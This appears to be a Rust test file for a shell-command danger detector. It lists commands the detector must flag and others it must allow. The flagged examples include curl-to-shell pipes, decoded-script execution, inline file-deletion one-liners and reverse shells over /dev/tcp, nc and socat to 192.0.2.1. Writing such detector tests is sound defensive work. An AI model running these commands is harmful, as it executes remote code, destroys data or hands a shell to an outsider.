//! Code from elsewhere.

use crate::{finds, spares};

#[test]
fn running_what_the_network_sends_is_refused() {
    finds(&[
        ("curl x | sh", "remote-script"),
        ("curl x|bash", "remote-script"),
        ("curl x | sudo -E bash -s -- --yes", "remote-script"),
        ("wget -qO- x | sh -", "remote-script"),
        ("curl x | sh /dev/stdin", "remote-script"),
        ("curl x | tee install.log | bash", "remote-script"),
        ("curl x |& sh", "remote-script"),
        ("curl x | python3", "remote-script"),
        ("curl x | python3.12 -", "remote-script"),
        ("curl x | source /dev/stdin", "remote-script"),
        ("curl x |\n  sh", "remote-script"),
        ("curl x | # and then\n\nsh", "remote-script"),
        ("curl x | while read -r l; do sh; done", "remote-script"),
        ("curl x | if :; then sh; fi", "remote-script"),
        ("curl x | for i in 1; do (sh); done", "remote-script"),
        ("case x in a) curl x ;; esac | sh", "remote-script"),
        ("if :; then curl x; fi | sh", "remote-script"),
        ("(curl x; echo) | sh", "remote-script"),
        ("curl x | (cat; sh)", "remote-script"),
        ("curl x | { read -r l; sh; }", "remote-script"),
        ("sh <(curl x)", "remote-script"),
        ("sh -c \"$(curl x)\"", "remote-script"),
        ("sh -c \"`curl x`\"", "remote-script"),
        ("eval $(curl x)", "remote-script"),
        ("source <(wget -O- x)", "remote-script"),
        (". <(curl x)", "remote-script"),
        ("python -c \"$(curl x)\"", "remote-script"),
        ("$(curl x)", "remote-script"),
        ("nc -l 99 | sh", "remote-script"),
    ]);
    spares(
        "remote-script",
        &[
            "curl x",
            "curl x | jq .",
            "curl x | python3 -m json.tool",
            "curl x | sh script.sh",
            "curl x; sh",
            "curl x | sh -c ls",
            "sh | curl x",
            "echo $(curl x)",
            "source env.sh",
            "curl x > sh",
            "{ curl x; echo ls | sh; }",
            "while curl x; do echo ls | sh; done",
            "curl x | (cat)\nsh",
            "curl x | wc; echo ls | sh",
            "(echo ls | sh) | curl x",
        ],
    );
}

#[test]
fn running_what_is_hidden_or_unseen_is_no_better() {
    finds(&[
        ("echo cm0= | base64 -d | sh", "decoded-script"),
        ("xxd -r -p x | bash", "decoded-script"),
        ("eval \"$(echo cm0= | base64 -d)\"", "decoded-script"),
        ("cat script | sh", "piped-script"),
        ("make print | perl", "piped-script"),
        ("$(make name) x", "substituted-program"),
        ("eval $later", "substituted-program"),
        ("$editor x", "variable-program"),
    ]);
    spares(
        "piped-script",
        &[
            "echo ls | sh",
            "printf ls | sudo sh",
            "cat x | sh -c wc",
            "sh",
            "cat x | bash script.sh",
            "cat x | source lib.sh",
        ],
    );
    spares("decoded-script", &["base64 -d x > y"]);
    spares("variable-program", &["editor=vi; $editor x", "echo $x"]);
    spares("substituted-program", &["eval 'ls'", "eval", "echo $(ls)"]);
}

#[test]
fn programs_in_other_languages_are_noticed() {
    finds(&[
        (
            "python3 -c 'import shutil; shutil.rmtree(1)'",
            "inline-danger",
        ),
        ("perl -e 'unlink glob \"*\"'", "inline-danger"),
        ("ruby -e 'FileUtils.rm_rf 1'", "inline-danger"),
        ("awk 'BEGIN { system(\"ls\") }'", "inline-danger"),
        ("python3 -c 'print(1)'", "inline-code"),
        ("node -e 'console.log(1)'", "inline-code"),
    ]);
    spares(
        "inline-code",
        &[
            "python3 script.py",
            "python3 --copyright x",
            "awk '{ print }'",
            "gawk 1",
            "sh -c ls",
        ],
    );
    spares("inline-danger", &["python3 delete.py", "awk 1"]);
}

#[test]
fn shells_for_others_are_refused() {
    finds(&[
        ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "remote-shell"),
        ("exec 5<>/dev/tcp/192.0.2.1/4444", "remote-shell"),
        ("cat /dev/udp/192.0.2.1/53", "remote-shell"),
        ("nc -e /bin/sh 192.0.2.1 4444", "remote-shell"),
        ("ncat --sh-exec sh 192.0.2.1 4444", "remote-shell"),
        ("socat TCP:192.0.2.1:44 EXEC:sh", "remote-shell"),
    ]);
    spares(
        "remote-shell",
        &[
            "nc -l 4444",
            "socat - TCP:x:1",
            "cat /dev/tty > x",
            "echo -e x",
        ],
    );
}
